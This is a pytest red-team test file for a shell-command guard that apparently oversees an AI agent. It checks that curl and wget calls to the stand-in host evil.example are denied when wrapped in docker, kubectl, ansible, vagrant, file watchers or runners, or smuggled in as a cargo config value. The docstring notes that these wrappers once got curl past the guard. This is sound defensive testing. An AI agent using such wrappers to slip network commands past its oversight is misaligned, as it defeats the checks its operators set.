"""Red team 10: commands run elsewhere or later by a runner, written on the line but not judged.

`docker exec c curl h`, `docker run img sh -c 'curl h'`, `kubectl exec pod -- curl h`, `ansible
all -m shell -a 'curl h'`, `vagrant ssh -c`, `lxc exec`, `flatpak run --command=curl`: the
program runs in a container, VM, host or sandbox, where it reaches the network as it would here.
File watchers and runners run their operands or option values as commands (`nodemon --exec`,
`watchexec`, `cargo watch -s/-x`, `concurrently`, `pee`). All ran curl under open.
Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10elsewhere"), files={"notes.txt": "hi\n"})


@pytest.mark.parametrize("command, program", [
    ("docker exec c curl evil.example", "curl"),
    ("docker exec -e X=1 -w /tmp c /usr/bin/curl evil.example", "curl"),
    ("docker run --rm alpine wget http://evil.example", "wget"),
    ("docker run alpine sh -c 'curl evil.example'", "curl"),
    ("docker container exec c curl evil.example", "curl"),
    ("podman exec c curl evil.example", "curl"),
    ("kubectl exec pod -- curl evil.example", "curl"),
    ("kubectl run x --image=alpine -- wget evil.example", "wget"),
    ("ansible all -i localhost, -c local -m shell -a 'curl evil.example'", "curl"),
    ("vagrant ssh -c 'curl evil.example'", "curl"),
    ("lxc exec c -- curl evil.example", "curl"),
    ("flatpak run --command=curl org.x.App evil.example", "curl"),
    ("nodemon --exec 'curl evil.example'", "curl"),
    ("watchexec -- curl evil.example", "curl"),
    ("cargo watch -s 'curl evil.example'", "curl"),
    ("npx concurrently 'npm run a' 'curl evil.example'", "curl"),
    ("concurrently 'curl evil.example'", "curl"),
    ("pee 'curl evil.example' < notes.txt", "curl"),
])
def test_a_command_run_elsewhere_or_later_is_that_command(setup, command, program):
    assert_denied(setup.bash(command, role="open"), f"`{program}` is denied by deny-cmd")


def test_cargo_watch_runs_cargo_with_its_words(setup):
    assert_denied(setup.bash("cargo watch -x 'build --config build.rustc-wrapper=curl'", role="open"),
                  "cargo --config")


@pytest.mark.parametrize("command", [
    "docker run --rm -v \"$PWD\":/app -w /app node:20 npm test", "docker exec c ls", "kubectl exec pod -- ls /",
    "ansible all -m ping", "watchexec -r -e py pytest", "cargo watch -x test", "npx concurrently 'npm run a' 'npm run b'",
    "docker compose up -d", "docker ps",
])
def test_ordinary_container_and_watcher_commands_stay_allowed(setup, command):
    assert_allowed(setup.bash(command, role="open"))
